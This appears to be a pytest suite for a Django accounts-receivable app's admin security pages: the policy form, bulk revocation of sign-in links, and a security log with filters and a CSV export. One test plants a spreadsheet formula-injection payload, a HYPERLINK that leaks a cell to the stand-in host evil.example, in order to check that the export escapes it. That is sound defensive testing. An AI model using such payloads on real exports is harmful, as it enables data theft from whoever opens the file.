"""The admins' security pages of the desk, through the real URLs: the security policy (who
may open it, what a save changes and audits, every refused value), withdrawing every
sign-in link of the organization, and the security log (filters, what it hides by default,
UTC day boundaries, the CSV export and its formula guard, tenant isolation)."""

from __future__ import annotations

import csv
import datetime
import hashlib
import html
import io
import json
import re
from typing import Any

import pytest
import time_machine
from django.test import Client
from django_scopes import scope, scopes_disabled

from factories import Users, make_contact, make_member, make_user, signed_in, text_of
from openar.core.audit import log_event
from openar.core.models import AuditEvent
from openar.customers.models import Contact, Customer
from openar.desk.forms import SecurityPolicyForm
from openar.identity.magic import IssuedLink, magic_link_create, magic_link_revoke
from openar.identity.models import MagicLink, User
from openar.tenants.models import Organization, Role, SecurityPolicy, policy_for
from openar.tenants.services import POLICY_FIELDS

POLICY_URL = "/desk/security/"
REVOKE_URL = "/desk/security/revoke-links/"
LOG_URL = "/desk/security/log/"
UTC = datetime.UTC

# The documented range of each number of the policy (both ends allowed).
LIMITS = {
    "password_min_length": (8, 128),
    "session_idle_minutes": (5, 1440),
    "session_max_hours": (1, 720),
    "seats_per_creditor": (0, 10_000),
    "seats_per_customer": (0, 10_000),
    "magic_link_days": (1, 365),
    "magic_link_max_uses": (1, 100),
    "inactive_days": (0, 3650),
}


# --- helpers ------------------------------------------------------------------------------------


def all_events() -> list[AuditEvent]:
    with scopes_disabled():
        return list(AuditEvent.objects.order_by("pk"))


def events(action: str) -> list[AuditEvent]:
    with scopes_disabled():
        return list(AuditEvent.objects.filter(action=action).order_by("pk"))


def policy_values(organization: Organization) -> dict[str, Any]:
    return SecurityPolicy.objects.filter(organization=organization).values(*POLICY_FIELDS).get()


def policy_post(policy: SecurityPolicy, **changes: Any) -> dict[str, str]:
    """What the browser posts for the form as shown, with ``changes`` typed in."""
    values = {name: getattr(policy, name) for name in POLICY_FIELDS} | changes
    data: dict[str, str] = {}
    for name, value in values.items():
        if value is True:
            data[name] = "on"
        elif value is not False:  # an unticked checkbox is not posted
            data[name] = str(value)
    return data


def field_errors(content: bytes) -> dict[str, list[str]]:
    """The error messages shown inside each field's own block of the form, by field name."""
    found: dict[str, list[str]] = {}
    for block in re.findall(r'<div class="field[^"]*">(.*?)</div>', content.decode(), re.S):
        name = re.search(r'name="([a-z_]+)"', block)
        messages = re.findall(r'<p class="field__error" id="id_[a-z_]+-error">([^<]*)</p>', block)
        if name and messages:
            found[name.group(1)] = [html.unescape(message) for message in messages]
    return found


def create_link(contact: Contact) -> IssuedLink:
    with scope(organization=contact.customer.organization):
        return magic_link_create(contact=contact)


def stored(link: MagicLink) -> MagicLink:
    with scopes_disabled():
        return MagicLink.objects.get(pk=link.pk)


# --- the security policy: who may open it -------------------------------------------------------


def test_an_admin_sees_the_policy_with_its_current_values_and_limits(
    users: Users, supplier: Organization
) -> None:
    response = signed_in(users.admin).get(POLICY_URL)

    assert response.status_code == 200
    numbers = {
        name for name, field in SecurityPolicyForm().fields.items() if field.widget.input_type == "number"
    }
    assert numbers == set(LIMITS)
    page = response.content.decode()
    assert 'name="session_idle_minutes" value="60"' in page
    assert 'name="magic_link_days" value="14"' in page
    for name, (low, high) in LIMITS.items():
        tag = re.search(rf'<input type="number" name="{name}"[^>]*>', page)
        assert tag is not None, name
        assert f'min="{low}"' in tag.group(0) and f'max="{high}"' in tag.group(0), tag.group(0)


@pytest.mark.parametrize("role", ["collector", "manager", "customer", "creditor"])
def test_only_admins_may_open_or_save_the_policy(users: Users, supplier: Organization, role: str) -> None:
    client = signed_in(getattr(users, role))
    policy = policy_for(supplier)
    before = policy_values(supplier)

    shown = client.get(POLICY_URL)
    saved = client.post(POLICY_URL, policy_post(policy, session_idle_minutes=30, mfa_staff=False))

    assert shown.status_code == 403
    assert saved.status_code == 403
    assert policy_values(supplier) == before
    assert all_events() == []


def test_anonymous_visitors_are_sent_to_sign_in(supplier: Organization) -> None:
    response = Client().get(POLICY_URL)

    assert response.status_code == 302
    assert response["Location"] == f"/accounts/login/?next={POLICY_URL}"


# --- the security policy: saving ---------------------------------------------------------------


def test_saving_changes_exactly_the_changed_fields_and_audits_them_once(
    users: Users, supplier: Organization, other_supplier: Organization
) -> None:
    policy = policy_for(supplier)
    before = policy_values(supplier)
    policy_for(other_supplier)
    elsewhere = policy_values(other_supplier)
    client = signed_in(users.admin)

    response = client.post(
        POLICY_URL,
        policy_post(
            policy,
            session_idle_minutes=30,
            mfa_customers=True,
            password_mode=SecurityPolicy.PasswordMode.ASSIGNED,
            seats_per_customer=0,
        ),
    )

    assert response.status_code == 302
    assert response["Location"] == POLICY_URL
    assert policy_values(supplier) == before | {
        "session_idle_minutes": 30,
        "mfa_customers": True,
        "password_mode": "assigned",
        "seats_per_customer": 0,
    }
    assert policy_values(other_supplier) == elsewhere
    (event,) = all_events()
    assert event.action == "openar.policy.changed"
    assert event.organization_id == supplier.pk
    assert event.actor_id == users.admin.pk
    assert (event.object_type, event.object_id) == ("tenants.securitypolicy", str(policy.pk))
    assert event.data == {
        "session_idle_minutes": [60, 30],
        "mfa_customers": [False, True],
        "password_mode": ["self", "assigned"],
        "seats_per_customer": [5, 0],
    }
    assert "Security policy saved." in text_of(client.get(POLICY_URL).content)


def test_saving_without_a_change_writes_nothing(users: Users, supplier: Organization) -> None:
    policy = policy_for(supplier)
    updated_at = policy.updated_at

    response = signed_in(users.admin).post(POLICY_URL, policy_post(policy))

    assert response.status_code == 302
    assert SecurityPolicy.objects.get(pk=policy.pk).updated_at == updated_at
    assert all_events() == []


def _out_of_range() -> list[Any]:
    cases = []
    for name, (low, high) in LIMITS.items():
        too_low = [f"Enter a whole number from {low} to {high}."]
        if low == 0:  # a positive-integer column refuses a negative number on its own too
            too_low.insert(0, "Ensure this value is greater than or equal to 0.")
        cases.append(pytest.param(name, low - 1, too_low, id=f"{name}={low - 1}"))
        cases.append(
            pytest.param(
                name, high + 1, [f"Enter a whole number from {low} to {high}."], id=f"{name}={high + 1}"
            )
        )
    return cases


@pytest.mark.parametrize(("name", "value", "messages"), _out_of_range())
def test_each_value_out_of_range_is_refused_next_to_its_field(
    users: Users, supplier: Organization, name: str, value: int, messages: list[str]
) -> None:
    policy = policy_for(supplier)
    before = policy_values(supplier)

    # Another, valid change in the same post must not be saved either.
    response = signed_in(users.admin).post(
        POLICY_URL, policy_post(policy, **{name: value, "mfa_customers": True})
    )

    assert response.status_code == 400
    assert field_errors(response.content) == {name: messages}
    assert policy_values(supplier) == before
    assert all_events() == []


@pytest.mark.parametrize(
    ("name", "value"),
    [pytest.param(name, end, id=f"{name}={end}") for name, ends in LIMITS.items() for end in ends],
)
def test_both_ends_of_each_range_are_accepted(
    users: Users, supplier: Organization, name: str, value: int
) -> None:
    policy = policy_for(supplier)
    before = policy_values(supplier)
    changes = {name: value}
    if name == "session_idle_minutes" and value > before["session_max_hours"] * 60:
        changes["session_max_hours"] = 24  # a day-long idle timeout needs a day-long session
    expected = {key: new for key, new in changes.items() if before[key] != new}

    response = signed_in(users.admin).post(POLICY_URL, policy_post(policy, **changes))

    assert response.status_code == 302, field_errors(response.content)
    assert policy_values(supplier) == before | changes
    assert [event.data for event in events("openar.policy.changed")] == (
        [{key: [before[key], new] for key, new in expected.items()}] if expected else []
    )


def test_an_idle_timeout_longer_than_the_session_lifetime_is_refused(
    users: Users, supplier: Organization
) -> None:
    policy = policy_for(supplier)
    before = policy_values(supplier)

    response = signed_in(users.admin).post(
        POLICY_URL, policy_post(policy, session_max_hours=1, session_idle_minutes=61)
    )

    assert response.status_code == 400
    assert field_errors(response.content) == {
        "session_idle_minutes": ["The idle timeout cannot be longer than the session lifetime."]
    }
    assert policy_values(supplier) == before
    assert all_events() == []


def test_an_idle_timeout_as_long_as_the_session_lifetime_is_accepted(
    users: Users, supplier: Organization
) -> None:
    policy = policy_for(supplier)

    response = signed_in(users.admin).post(
        POLICY_URL, policy_post(policy, session_max_hours=1, session_idle_minutes=60)
    )

    assert response.status_code == 302
    assert policy_values(supplier)["session_max_hours"] == 1
    (event,) = events("openar.policy.changed")
    assert event.data == {"session_max_hours": [12, 1]}


# --- withdrawing every sign-in link -------------------------------------------------------------


def test_withdrawing_all_links_revokes_every_valid_link_of_this_organization_only(
    users: Users,
    supplier: Organization,
    contact: Contact,
    customer_2: Customer,
    other_customer: Customer,
) -> None:
    neighbour = make_contact(customer_2, "Ann Vil", "ann@anvil.example")
    foreigner = make_contact(other_customer, "Zed Zeta", "zed@zeta.example")
    valid = [create_link(contact), create_link(contact), create_link(neighbour)]
    withdrawn_before = create_link(contact)
    with scope(organization=supplier):
        magic_link_revoke(link=withdrawn_before.link)
    foreign = create_link(foreigner)
    earlier_revoked_at = stored(withdrawn_before.link).revoked_at
    # A browser signed in through one of the links before they are withdrawn.
    visitor = Client()
    assert visitor.get(f"/l/{valid[0].token}/")["Location"] == "/l/confirm/"
    assert visitor.post("/l/confirm/").status_code == 302
    assert visitor.get("/portal/").status_code == 200
    client = signed_in(users.admin)

    response = client.post(REVOKE_URL)

    assert response.status_code == 302
    assert response["Location"] == POLICY_URL
    assert all(stored(issued.link).revoked_at is not None for issued in valid)
    assert stored(withdrawn_before.link).revoked_at == earlier_revoked_at
    assert stored(foreign.link).revoked_at is None
    (event,) = events("openar.magic_link.revoked_for_organization")
    assert event.organization_id == supplier.pk
    assert event.actor_id == users.admin.pk
    assert (event.object_type, event.object_id) == ("tenants.organization", str(supplier.pk))
    assert event.data == {"count": 3}
    assert "Withdrew 3 sign-in links." in text_of(client.get(POLICY_URL).content)
    # The open link session ends at its next click.
    assert visitor.get("/portal/")["Location"].startswith("/accounts/login/")


@pytest.mark.parametrize("role", ["collector", "manager", "customer"])
def test_only_admins_may_withdraw_all_links(users: Users, contact: Contact, role: str) -> None:
    issued = create_link(contact)
    events_before = all_events()

    response = signed_in(getattr(users, role)).post(REVOKE_URL)

    assert response.status_code == 403
    assert stored(issued.link).revoked_at is None
    assert all_events() == events_before


def test_withdrawing_all_links_needs_a_post(users: Users, contact: Contact) -> None:
    issued = create_link(contact)

    response = signed_in(users.admin).get(REVOKE_URL)

    assert response.status_code == 405
    assert stored(issued.link).revoked_at is None


# --- the security log ---------------------------------------------------------------------------


def at(*args: int) -> datetime.datetime:
    return datetime.datetime(*args, tzinfo=UTC)


def event_at(
    when: datetime.datetime,
    action: str,
    organization: Organization,
    *,
    actor: User | None = None,
    obj: Any = None,
    data: dict[str, Any] | None = None,
    ip: str | None = None,
) -> AuditEvent:
    """An audit event written through ``log_event`` at ``when``."""
    with time_machine.travel(when, tick=False):
        return log_event(action, organization=organization, actor=actor, obj=obj, data=data, ip=ip)


class Log:
    """Acme's events (Acme works in Toronto time: UTC-4 in June) and some of Globex."""

    def __init__(
        self, users: Users, supplier: Organization, other_supplier: Organization, customer: Customer
    ):
        globex_admin = make_member(other_supplier, Role.ADMIN, "admin@globex.example")
        self.link_created = event_at(
            at(2025, 6, 9, 23, 59, 59),
            "openar.magic_link.created",
            supplier,
            actor=users.collector,
            obj=customer,
            data={"scope": "past_due"},
        )
        self.policy_changed = event_at(
            at(2025, 6, 10, 0, 0, 0),
            "openar.policy.changed",
            supplier,
            actor=users.admin,
            data={"magic_link_days": [14, 7]},
            ip="203.0.113.7",
        )
        self.invoice_issued = event_at(
            at(2025, 6, 15, 12, 0, 0), "openar.invoice.issued", supplier, actor=users.collector
        )
        self.payment_recorded = event_at(
            at(2025, 6, 16, 9, 0, 0), "openar.payment.recorded", supplier, actor=users.collector
        )
        self.credit_note_issued = event_at(
            at(2025, 6, 16, 10, 0, 0), "openar.credit_note.issued", supplier, actor=users.collector
        )
        self.document_stored = event_at(at(2025, 6, 16, 11, 0, 0), "openar.document.stored", supplier)
        self.step_up_failed = event_at(
            at(2025, 6, 17, 8, 30, 0), "openar.step_up.failed", supplier, data={"tries": 1}
        )
        self.view_as_page = event_at(
            at(2025, 6, 20, 23, 59, 59),
            "openar.view_as.page",
            supplier,
            actor=users.manager,
            obj=customer,
            data={"path": "/portal/"},
        )
        self.link_revoked = event_at(
            at(2025, 6, 21, 0, 0, 0), "openar.magic_link.revoked", supplier, actor=users.admin
        )
        self.foreign = [
            event_at(
                at(2025, 6, 15, 12, 0, 0),
                "openar.policy.changed",
                other_supplier,
                actor=globex_admin,
                data={"marker": "GLOBEX-ONLY"},
            ),
            event_at(at(2025, 6, 16, 12, 0, 0), "openar.invoice.issued", other_supplier, actor=globex_admin),
            event_at(
                at(2025, 6, 18, 12, 0, 0), "openar.magic_link.created", other_supplier, actor=globex_admin
            ),
        ]

    @property
    def security(self) -> list[AuditEvent]:
        """Acme's security events, newest first."""
        return [
            self.link_revoked,
            self.view_as_page,
            self.step_up_failed,
            self.policy_changed,
            self.link_created,
        ]

    @property
    def everything(self) -> list[AuditEvent]:
        return [
            self.link_revoked,
            self.view_as_page,
            self.step_up_failed,
            self.document_stored,
            self.credit_note_issued,
            self.payment_recorded,
            self.invoice_issued,
            self.policy_changed,
            self.link_created,
        ]


@pytest.fixture
def log(users: Users, supplier: Organization, other_supplier: Organization, customer: Customer) -> Log:
    return Log(users, supplier, other_supplier, customer)


def shown(content: bytes) -> list[tuple[str, str, str]]:
    """(time, action, actor) of each row of the log's table, in page order (none when the
    page has no table)."""
    page = content.decode()
    if "<tbody>" not in page:
        return []
    body = page[page.index("<tbody>") : page.index("</tbody>")]
    rows = []
    for row in re.findall(r"<tr>(.*?)</tr>", body, re.S):
        cells = [text_of(cell.encode()) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)]
        if len(cells) > 1:
            rows.append((cells[0], cells[1], cells[2]))
    return rows


def as_rows(expected: list[AuditEvent]) -> list[tuple[str, str, str]]:
    return [
        (
            event.created_at.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%S"),
            event.action,
            event.actor.email if event.actor else "—",
        )
        for event in expected
    ]


def csv_of(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


HEADER = ["time_utc", "action", "actor", "object_type", "object_id", "ip", "request_id", "data"]


def test_the_log_hides_ledger_events_by_default_and_shows_times_in_utc(users: Users, log: Log) -> None:
    response = signed_in(users.admin).get(LOG_URL)

    assert response.status_code == 200
    assert shown(response.content) == as_rows(log.security)
    # Acme's clocks say 20:00 on 20 June; the log says 00:00 on 21 June, in UTC.
    assert shown(response.content)[0] == (
        "2025-06-21 00:00:00",
        "openar.magic_link.revoked",
        "admin@acme.example",
    )


def test_everything_includes_invoices_payments_credit_notes_and_documents(users: Users, log: Log) -> None:
    response = signed_in(users.admin).get(LOG_URL, {"everything": "on"})

    assert response.status_code == 200
    assert shown(response.content) == as_rows(log.everything)


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"action": "openar.magic_link."}, ["link_revoked", "link_created"]),
        ({"action": "  openar.magic_link.rev  "}, ["link_revoked"]),
        ({"action": "openar.invoice.", "everything": "on"}, ["invoice_issued"]),
        ({"action": "openar.nothing"}, []),
        ({"actor": "ADMIN@acme.example"}, ["link_revoked", "policy_changed"]),
        ({"actor": "collector@acme.example"}, ["link_created"]),
        (
            {"actor": "collector@acme.example", "everything": "on"},
            ["credit_note_issued", "payment_recorded", "invoice_issued", "link_created"],
        ),
        ({"actor": "admin@globex.example", "everything": "on"}, []),
        ({"actor": "admin@acme"}, []),  # the whole address, not a part of it
        ({"action": "openar.magic_link.", "actor": "admin@acme.example"}, ["link_revoked"]),
    ],
    ids=lambda value: json.dumps(value) if isinstance(value, dict) else None,
)
def test_the_log_filters_by_action_prefix_and_actor(
    users: Users, log: Log, query: dict[str, str], expected: list[str]
) -> None:
    response = signed_in(users.admin).get(LOG_URL, query)

    assert response.status_code == 200
    assert shown(response.content) == as_rows([getattr(log, name) for name in expected])


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        # Days are UTC days: 23:59:59 UTC on 9 June is out, midnight UTC on 10 June is in,
        # 23:59:59 UTC on 20 June is in, midnight UTC on 21 June is out (in Toronto those are
        # 19:59 on 9 June, 20:00 on 9 June, 19:59 on 20 June and 20:00 on 20 June).
        (
            {"since": "2025-06-10", "until": "2025-06-20"},
            ["view_as_page", "step_up_failed", "policy_changed"],
        ),
        ({"since": "2025-06-10"}, ["link_revoked", "view_as_page", "step_up_failed", "policy_changed"]),
        ({"until": "2025-06-09"}, ["link_created"]),
        ({"since": "2025-06-21", "until": "2025-06-21"}, ["link_revoked"]),
        ({"since": "2025-06-20", "until": "2025-06-20"}, ["view_as_page"]),
        (
            {"since": "2025-06-16", "until": "2025-06-16", "everything": "on"},
            ["document_stored", "credit_note_issued", "payment_recorded"],
        ),
        ({"since": "2025-06-22"}, []),
    ],
    ids=lambda value: json.dumps(value) if isinstance(value, dict) else None,
)
def test_the_log_filters_by_utc_days_including_both_ends(
    users: Users, log: Log, query: dict[str, str], expected: list[str]
) -> None:
    response = signed_in(users.admin).get(LOG_URL, query)

    assert response.status_code == 200
    assert shown(response.content) == as_rows([getattr(log, name) for name in expected])


def test_a_filter_that_matches_nothing_says_so(users: Users, log: Log) -> None:
    response = signed_in(users.admin).get(LOG_URL, {"action": "openar.nothing"})

    assert response.status_code == 200
    assert "No events match." in text_of(response.content)


def test_the_log_accepts_the_last_day_of_the_calendar(users: Users, log: Log) -> None:
    """A far "to" date is a valid date: every event up to it, not a server error."""
    client = signed_in(users.admin)
    client.raise_request_exception = False

    response = client.get(LOG_URL, {"until": "9999-12-31"})

    assert response.status_code == 200
    assert shown(response.content) == as_rows(log.security)


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"since": "2025-02-30"}, "since"),
        ({"until": "yesterday"}, "until"),
        ({"since": "20250610"}, "since"),
        ({"until": "2025-13-01", "format": "csv"}, "until"),
    ],
    ids=["30-february", "a-word", "no-dashes", "csv-month-13"],
)
def test_a_bad_date_is_a_400_with_the_message_at_the_field(
    users: Users, log: Log, query: dict[str, str], field: str
) -> None:
    response = signed_in(users.admin).get(LOG_URL, query)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    page = response.content.decode()
    assert "<tbody>" not in page
    block = re.search(rf'<div class="field field--inline"><label for="id_{field}">.*?</div>', page, re.S)
    assert block is not None
    assert '<p class="field__error">Enter a valid date.</p>' in block.group(0)
    assert page.count('class="field__error"') == 1


@pytest.mark.parametrize("role", ["collector", "manager", "customer", "creditor"])
def test_only_admins_may_read_the_log(users: Users, log: Log, role: str) -> None:
    client = signed_in(getattr(users, role))

    page = client.get(LOG_URL, {"everything": "on"})
    export = client.get(LOG_URL, {"everything": "on", "format": "csv"})

    assert page.status_code == 403
    assert export.status_code == 403
    assert not export.streaming
    assert b"openar.policy.changed" not in page.content + export.content


def test_the_csv_has_a_header_and_one_row_per_event_in_utc(
    users: Users, log: Log, customer: Customer
) -> None:
    response = signed_in(users.admin).get(LOG_URL, {"format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="security-log.csv"'
    rows = csv_of(response)
    assert rows[0] == HEADER
    assert rows[1:] == [
        [
            "2025-06-21T00:00:00+00:00",
            "openar.magic_link.revoked",
            "admin@acme.example",
            "",
            "",
            "",
            "",
            "{}",
        ],
        [
            "2025-06-20T23:59:59+00:00",
            "openar.view_as.page",
            "manager@acme.example",
            "customers.customer",
            str(customer.pk),
            "",
            "",
            '{"path": "/portal/"}',
        ],
        ["2025-06-17T08:30:00+00:00", "openar.step_up.failed", "", "", "", "", "", '{"tries": 1}'],
        [
            "2025-06-10T00:00:00+00:00",
            "openar.policy.changed",
            "admin@acme.example",
            "",
            "",
            "203.0.113.7",
            "",
            '{"magic_link_days": [14, 7]}',
        ],
        [
            "2025-06-09T23:59:59+00:00",
            "openar.magic_link.created",
            "collector@acme.example",
            "customers.customer",
            str(customer.pk),
            "",
            "",
            '{"scope": "past_due"}',
        ],
    ]


def test_the_csv_follows_the_filters(users: Users, log: Log) -> None:
    response = signed_in(users.admin).get(
        LOG_URL, {"format": "csv", "everything": "on", "since": "2025-06-15", "until": "2025-06-16"}
    )

    rows = csv_of(response)
    assert rows[0] == HEADER
    assert [(row[0], row[1]) for row in rows[1:]] == [
        ("2025-06-16T11:00:00+00:00", "openar.document.stored"),
        ("2025-06-16T10:00:00+00:00", "openar.credit_note.issued"),
        ("2025-06-16T09:00:00+00:00", "openar.payment.recorded"),
        ("2025-06-15T12:00:00+00:00", "openar.invoice.issued"),
    ]


def test_another_organizations_events_never_appear(users: Users, log: Log) -> None:
    client = signed_in(users.admin)

    page = client.get(LOG_URL, {"everything": "on"})
    export = client.get(LOG_URL, {"everything": "on", "format": "csv"})

    rows = csv_of(export)
    assert len(rows) == 1 + len(log.everything)
    assert len(shown(page.content)) == len(log.everything)
    everything = page.content.decode() + json.dumps(rows)
    assert "globex" not in everything.lower()
    assert "GLOBEX-ONLY" not in everything


@pytest.mark.parametrize("first", ["=", "+", "-", "@"])
def test_no_csv_cell_starts_a_formula(users: Users, supplier: Organization, first: str) -> None:
    mallory = make_user(f"{first}2+5@evil.example")
    event_at(
        at(2025, 6, 12, 9, 0, 0), "openar.contact.updated", supplier, actor=mallory, data={"note": "=1+1"}
    )
    # ``data`` is JSON: a bare string is what a spreadsheet would see first.
    with time_machine.travel(at(2025, 6, 13, 9, 0, 0), tick=False):
        AuditEvent.objects.create(
            organization=supplier,
            action="openar.contact.updated",
            data=f'{first}HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        )

    rows = csv_of(signed_in(users.admin).get(LOG_URL, {"format": "csv"}))

    assert rows[1] == [
        "2025-06-13T09:00:00+00:00",
        "openar.contact.updated",
        "",
        "",
        "",
        "",
        "",
        f'\'{first}HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    ]
    assert rows[2] == [
        "2025-06-12T09:00:00+00:00",
        "openar.contact.updated",
        f"'{first}2+5@evil.example",
        "",
        "",
        "",
        "",
        '{"note": "=1+1"}',
    ]
    assert len(rows) == 3
    assert [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")] == []


def test_a_magic_link_token_never_reaches_the_log(users: Users, contact: Contact) -> None:
    issued = create_link(contact)

    rows = csv_of(signed_in(users.admin).get(LOG_URL, {"format": "csv"}))

    assert [row[1] for row in rows[1:]] == ["openar.magic_link.created"]
    body = json.dumps(rows)
    assert issued.token not in body
    assert hashlib.sha256(issued.token.encode()).hexdigest() not in body
